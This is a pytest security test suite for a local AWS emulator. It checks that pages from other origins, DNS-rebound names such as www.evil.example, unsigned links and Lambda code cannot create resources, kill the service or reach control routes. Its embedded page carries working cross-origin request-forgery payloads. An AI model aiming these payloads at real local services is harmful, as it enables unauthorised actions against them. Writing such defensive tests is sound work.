"""Who may ask an emulator: a real browser with a page of another origin, and the tools that people use."""

import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import urllib.parse
import warnings
from pathlib import Path

import pytest
import urllib3

from harness.emulator import tokens
from harness.emulator.choose import choose_own
from harness.emulator.clients import Clients
from tests.e2e.commands import KIND

BROWSER = shutil.which("chromium") or shutil.which("google-chrome")
in_a_browser = pytest.mark.skipif(BROWSER is None, reason="no Chromium here: apt-get install chromium")

TEMPLATE = json.dumps({"Resources": {"Topic": {"Type": "AWS::SNS::Topic", "Properties": {"TopicName": "of-a-stack"}}}})
PAGE = """<!DOCTYPE html><title>a page</title><body><script>
const target = "TARGET", form = "application/x-www-form-urlencoded";
const topic = name => "Action=CreateTopic&Name=" + name;
const ways = {
  get: () => fetch(target + "/?" + topic("get"), {mode: "no-cors"}),
  silent: () => fetch(target + "/?" + topic("silent"), {mode: "no-cors", referrerPolicy: "no-referrer"}),
  stack: () => fetch(target + "/?Action=CreateStack&StackName=planted&TemplateBody=" + encodeURIComponent(STACK), {mode: "no-cors"}),
  post: () => fetch(target + "/", {method: "POST", mode: "no-cors", headers: {"Content-Type": form}, body: topic("post")}),
  beacon: async () => navigator.sendBeacon(target + "/", new URLSearchParams(topic("beacon"))),
  put: () => fetch(target + "/planted-bucket", {method: "PUT"}),
  read: async () => (await fetch(target + "/planted-bucket")).text(),
  control: async () => (await fetch(target + "/_pipeproof/activity?account=000000000000")).text(),
  kill: () => fetch(target + "/_localstack/health", {method: "POST", mode: "no-cors", body: '{"action": "kill"}'}),
  image: () => new Promise(done => {
    const image = new Image(); image.referrerPolicy = "no-referrer"; image.onload = image.onerror = () => done("tried");
    image.src = target + "/?" + topic("image");
  }),
  script: () => new Promise(done => {
    const script = document.createElement("script"); script.onload = script.onerror = () => done("tried");
    script.src = target + "/?" + topic("script"); document.head.append(script);
  }),
  frame: () => new Promise(done => {
    const frame = document.createElement("iframe"); frame.onload = () => done("tried");
    frame.src = target + "/?" + topic("frame"); document.body.append(frame);
  }),
};
(async () => {
  const told = {};
  for (const [name, way] of Object.entries(ways)) {
    try { const answer = await way(); told[name] = typeof answer === "string" ? answer : "sent"; } catch (error) { told[name] = "failed"; }
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script></body>"""


class Site:
    """A web site on a port of 127.0.0.1, with one page that tries what a page can. `told` is what it says it could do."""

    def __init__(self):
        self.target = ""
        self.told = None
        self.has_told = threading.Event()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                page = PAGE.replace("TARGET", site.target).replace("STACK", json.dumps(TEMPLATE)).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self):
                site.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                site.has_told.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def site():
    site = Site()
    yield site
    site.server.shutdown()
    site.server.server_close()


@pytest.fixture
def browse(tmp_path):
    """Lets a browser open a URL until a condition holds. Names below evil.example mean this machine, as their owner's name server could say."""

    def browse(url, done):
        log = tmp_path / "browser.log"
        with log.open("wb") as output:
            browser = subprocess.Popen(
                [
                    BROWSER, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                    "--disable-component-update", "--disable-background-networking", f"--user-data-dir={tmp_path / 'profile'}",
                    "--host-resolver-rules=MAP *.evil.example 127.0.0.1", "--remote-debugging-port=0", url,
                ],
                stdout=output, stderr=output, stdin=subprocess.DEVNULL,
            )  # fmt: skip
        try:
            assert done.wait(60), f"the page said nothing within 60 s; the browser: {log.read_text(errors='replace')[-2000:]}"
        finally:
            browser.terminate()
            browser.wait()

    return browse


def made(endpoint):
    """What was made in the account that requests without a signature go to: topics, stacks and buckets of the page."""
    clients = Clients(endpoint)
    topics = {topic["TopicArn"].rpartition(":")[2] for topic in clients("sns").list_topics()["Topics"]}
    stacks = {stack["StackName"] for stack in clients("cloudformation").list_stacks()["StackSummaries"]}
    buckets = {bucket["Name"] for bucket in clients("s3").list_buckets()["Buckets"]}
    of_the_page = {
        "get",
        "silent",
        "post",
        "beacon",
        "image",
        "script",
        "frame",
        "of-a-stack",
        "planted",
        "planted-bucket",
        "rebound",
    }
    return (topics | stacks | buckets) & of_the_page


@in_a_browser
@pytest.mark.parametrize("host", ["127.0.0.1", "www.evil.example"])
def test_a_page_of_another_origin_can_do_nothing(emulator, site, browse, host):
    site.target = emulator.endpoint
    browse(f"http://{host}:{site.port}/", site.has_told)
    assert made(emulator.endpoint) == set()
    assert {name: site.told[name] for name in ("put", "read", "control")} == dict.fromkeys(("put", "read", "control"), "failed")
    assert set(site.told) >= {"post", "beacon", "image", "script", "frame", "kill"}, "all ways were tried"
    assert urllib3.request("GET", f"{emulator.endpoint}/_localstack/health").status == 200


@in_a_browser
def test_a_page_of_an_origin_that_is_let_in_can(tmp_path, site, browse):
    """The page is as strong as the other test believes; and links without a signature change nothing for anybody."""
    mine, _ = choose_own(KIND, tmp_path / "emulator.log", origins=[f"http://127.0.0.1:{site.port}"])
    for _ in mine.prepare():
        pass
    try:
        site.target = mine.start().endpoint
        browse(f"http://127.0.0.1:{site.port}/", site.has_told)
        assert made(site.target) == {"post", "beacon", "planted-bucket"}
        assert "ListBucketResult" in site.told["read"]
        assert site.told["control"] == "failed" or "token" in site.told["control"]
    finally:
        mine.stop()


@in_a_browser
def test_a_name_that_was_bound_to_this_machine_is_refused(emulator, site, browse):
    """The page's own origin is then that of the emulator, so that the browser has nothing to say."""
    port = urllib.parse.urlsplit(emulator.endpoint).port
    site.target = f"http://www.evil.example:{port}"
    browse(f"http://www.evil.example:{site.port}/", site.has_told)
    assert made(emulator.endpoint) == set()
    answer = urllib3.request("GET", f"{emulator.endpoint}/", headers={"Host": f"www.evil.example:{port}"})
    assert (answer.status, "Host" in answer.json()["error"]) == (403, True)


@pytest.mark.parametrize(
    "query",
    [
        "Action=CreateTopic&Name=get",
        "Action=CreateStack&StackName=planted&TemplateBody=" + urllib.parse.quote(TEMPLATE),
        "Action=CreateTopic&Name=get&X-Amz-Signature=1&X-Amz-Credential=1",
        "Action=CreateQueue&QueueName=get",
        "Action=AssumeRole&RoleArn=arn:aws:iam::000000000000:role/x&RoleSessionName=x",
        "Action=SendEmail&Source=a@example.com&Destination.ToAddresses.member.1=b@example.com&Message.Subject.Data=x&Message.Body.Text.Data=x",
    ],
)
def test_a_link_without_a_signature_changes_nothing(emulator, query):
    answer = urllib3.request("GET", f"{emulator.endpoint}/?{query}")
    assert (answer.status, "signed" in answer.json()["error"]) == (403, True), answer.data
    assert made(emulator.endpoint) == set()


@pytest.mark.parametrize(
    "action", ["DeleteQueue", "PurgeQueue", "SetQueueAttributes&Attribute.Name=DelaySeconds&Attribute.Value=900"]
)
def test_a_link_to_a_queue_without_a_signature_may_send_and_receive_only(emulator, action):
    sqs = Clients(emulator.endpoint)("sqs")
    url = sqs.create_queue(QueueName="of-links")["QueueUrl"]
    legacy = f"{emulator.endpoint}/000000000000/of-links"
    for place in (url, legacy):
        answer = urllib3.request("GET", f"{place}?Action={action}", headers={"Authorization": "Basic eDp5"})
        assert (answer.status, "signed" in answer.json()["error"]) == (403, True), answer.data
    assert sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["DelaySeconds"])["Attributes"]["DelaySeconds"] == "0"


def test_functions_cannot_use_the_control_routes(functions, emulator):
    source = """
import os, urllib.request, urllib.error
def handler(event, context):
    told = {}
    for path in ("/_pipeproof/faults?account=000000000000&run=x", "/_pipeproof/activity", "/_localstack/info", "/_localstack/health"):
        try:
            told[path] = urllib.request.urlopen(os.environ["AWS_ENDPOINT_URL"] + path).status
        except urllib.error.HTTPError as error:
            told[path] = error.code
    return told
"""
    functions.create("curious", source)
    _, told, _ = functions.invoke("curious")
    assert list(told.values()) == [403, 403, 403, 200]


def test_the_owner_can_use_the_control_routes(emulator):
    url = f"{emulator.endpoint}/_pipeproof/activity"
    assert urllib3.request("GET", url).status == 403
    assert urllib3.request("GET", url, headers=tokens.headers(url)).json()["at_rest"] in {True, False}
    [file] = (file for file in Path(tokens.directory()).iterdir() if file.name == str(urllib.parse.urlsplit(url).port))
    assert file.stat().st_mode & 0o777 == 0o600


def test_presigned_urls_and_links_of_sns_work_without_a_header(clients):
    s3, sns, sqs = clients("s3"), clients("sns"), clients("sqs")
    s3.create_bucket(Bucket="links")
    link = s3.generate_presigned_url("put_object", Params={"Bucket": "links", "Key": "a b+c"})
    assert urllib3.request("PUT", link, body=b"content").status == 200
    link = s3.generate_presigned_url("get_object", Params={"Bucket": "links", "Key": "a b+c"})
    assert urllib3.request("GET", link).data == b"content"
    # Bucket names as hosts, as the SDKs write them where the endpoint is a name.
    host = {"Host": f"links.s3.localhost.localstack.cloud:{urllib.parse.urlsplit(clients.endpoint).port}"}
    assert urllib3.request("GET", f"{clients.endpoint}/a%20b%2Bc?{urllib.parse.urlsplit(link).query}", headers=host).status == 200

    topic = sns.create_topic(Name="links")["TopicArn"]
    queue = sqs.create_queue(QueueName="links")["QueueUrl"]
    arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    subscription = sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn, ReturnSubscriptionArn=True)["SubscriptionArn"]
    unsubscribe = urllib.parse.urlencode({"Action": "Unsubscribe", "SubscriptionArn": subscription})
    assert urllib3.request("GET", f"{clients.endpoint}/?{unsubscribe}").status == 200
    assert sns.list_subscriptions_by_topic(TopicArn=topic)["Subscriptions"] == []

    assert urllib3.request("GET", f"{queue}?Action=SendMessage&MessageBody=hello").status == 200
    assert "hello" in urllib3.request("GET", f"{queue}?Action=ReceiveMessage").data.decode()


def test_function_urls_and_rest_apis_work_without_a_header(functions, clients):
    functions.create("echo", "def handler(event, context):\n    return {'statusCode': 200, 'body': 'hello'}\n")
    url = clients("lambda").create_function_url_config(FunctionName="echo", AuthType="NONE")["FunctionUrl"]
    parts = urllib.parse.urlsplit(url)
    assert urllib3.request("GET", f"{clients.endpoint}/?Action=CreateStack", headers={"Host": parts.netloc}).data == b"hello"

    api = clients("apigateway")
    rest = api.create_rest_api(name="links")["id"]
    [root] = api.get_resources(restApiId=rest)["items"]
    api.put_method(restApiId=rest, resourceId=root["id"], httpMethod="GET", authorizationType="NONE")
    function = f"arn:aws:lambda:us-east-1:{clients.account}:function:echo"
    api.put_integration(
        restApiId=rest, resourceId=root["id"], httpMethod="GET", type="AWS_PROXY", integrationHttpMethod="POST",
        uri=f"arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/{function}/invocations",
    )  # fmt: skip
    api.create_deployment(restApiId=rest, stageName="v1")
    assert urllib3.request("GET", f"{clients.endpoint}/_aws/execute-api/{rest}/v1/?Action=Create").data == b"hello"
    host = {"Host": f"{rest}.execute-api.localhost.localstack.cloud:{urllib.parse.urlsplit(clients.endpoint).port}"}
    assert urllib3.request("GET", f"{clients.endpoint}/v1/", headers=host).data == b"hello"


def test_the_port_speaks_tls_too(clients):
    url = clients.endpoint.replace("http:", "https:")
    with urllib3.PoolManager(cert_reqs="CERT_NONE", assert_hostname=False) as pool, warnings.catch_warnings():
        warnings.simplefilter("ignore", urllib3.exceptions.InsecureRequestWarning)
        assert pool.request("GET", f"{url}/_localstack/health").status == 200


def test_the_aws_cli_works(clients, tmp_path):
    def aws(*args):
        env = {
            "PATH": os.environ["PATH"], "HOME": str(tmp_path), "AWS_DEFAULT_REGION": "us-east-1",
            "AWS_ACCESS_KEY_ID": clients.account, "AWS_SECRET_ACCESS_KEY": "dummy", "AWS_PAGER": "",
        }  # fmt: skip
        ran = subprocess.run(
            [sys.executable, "-m", "awscli", "--endpoint-url", clients.endpoint, *args],
            env=env,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )
        assert ran.returncode == 0, ran.stderr
        return json.loads(ran.stdout) if ran.stdout.startswith("{") else ran.stdout

    file = tmp_path / "file.txt"
    file.write_text("content")
    aws("s3", "mb", "s3://from-the-cli")
    aws("s3", "cp", str(file), "s3://from-the-cli/a key/file.txt")
    assert "file.txt" in aws("s3", "ls", "s3://from-the-cli/a key/")
    link = aws("s3", "presign", "s3://from-the-cli/a key/file.txt").strip()
    assert urllib3.request("GET", link).data == b"content"
    queue = aws("sqs", "create-queue", "--queue-name", "from-the-cli")["QueueUrl"]
    aws("sqs", "send-message", "--queue-url", queue, "--message-body", "hello")
    assert aws("sqs", "receive-message", "--queue-url", queue)["Messages"][0]["Body"] == "hello"
    topic = aws("sns", "create-topic", "--name", "from-the-cli")["TopicArn"]
    aws("sns", "publish", "--topic-arn", topic, "--message", "hello")
    template = tmp_path / "template.json"
    template.write_text(TEMPLATE.replace("of-a-stack", "of-the-cli"))
    aws("cloudformation", "deploy", "--stack-name", "from-the-cli", "--template-file", str(template))
    assert aws("cloudformation", "describe-stacks", "--stack-name", "from-the-cli")["Stacks"][0]["StackStatus"] == "CREATE_COMPLETE"
